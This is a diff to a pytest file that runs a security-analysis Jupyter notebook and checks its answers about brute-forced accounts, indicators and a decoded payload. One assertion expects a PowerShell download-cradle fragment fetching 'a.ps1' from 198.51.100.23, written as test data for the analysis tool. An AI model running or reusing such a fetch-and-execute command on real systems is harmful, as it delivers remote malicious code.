@@ -8,24 +8,28 @@ import nbformat
 import pytest
 from kernels import ipc
 from nbclient import NotebookClient
+from nbformat import NotebookNode
 from traitlets.config import Config
+
+from svc_jupyter.answer import MIME_TYPE
 
 PATH = Path(__file__).parents[2] / "notebooks" / "01_ask.ipynb"
 
 
 @pytest.fixture
-def answers(local_state: Path, tmp_path: Path) -> list[str]:
-    """The Markdown of each answer, in order; the notebook is run whole."""
+def answers(local_state: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[NotebookNode]:
+    """The answers in order; the notebook is run whole, as README's first command runs it."""
+    monkeypatch.delenv("SVC_ANSWERS", raising=False)
     notebook = nbformat.read(PATH, as_version=4)
     NotebookClient(
         notebook, config=Config({"KernelManager": ipc(tmp_path)}), resources={"metadata": {"path": str(PATH.parent)}}
     ).execute()
     outputs = [output for cell in notebook.cells for output in cell.get("outputs", ())]
-    return [output.data["text/markdown"] for output in outputs if "text/markdown" in output.get("data", {})]
+    return [output for output in outputs if MIME_TYPE in output.get("data", {})]
 
 
-def test_each_question_gets_its_answer(answers: list[str]):
-    who, indicators, decoded, score, before = answers
+def test_each_question_is_asked_and_gets_its_answer(answers: list[NotebookNode]):
+    who, indicators, decoded, score, before = (answer.data["text/markdown"] for answer in answers)
 
     assert "1,201" in who
     assert "`deploy`" in who
@@ -35,12 +39,5 @@ def test_each_question_gets_its_answer(answers: list[str]):
     assert "DownloadString('http://198.51.100.23/a.ps1')" in decoded
     assert "9.8" in score
     assert "Which accounts were brute-forced, and did anyone get in?" in before
-
-
-def test_it_ships_without_outputs_and_leaves_nothing_in_the_checkout():
-    notebook = nbformat.read(PATH, as_version=4)
-
-    assert all(
-        cell.outputs == [] and cell.execution_count is None for cell in notebook.cells if cell.cell_type == "code"
-    )
+    assert [answer.metadata[MIME_TYPE]["is_stored"] for answer in answers] == [False] * 5
     assert {path.name for path in PATH.parent.glob("*.log")} == set()
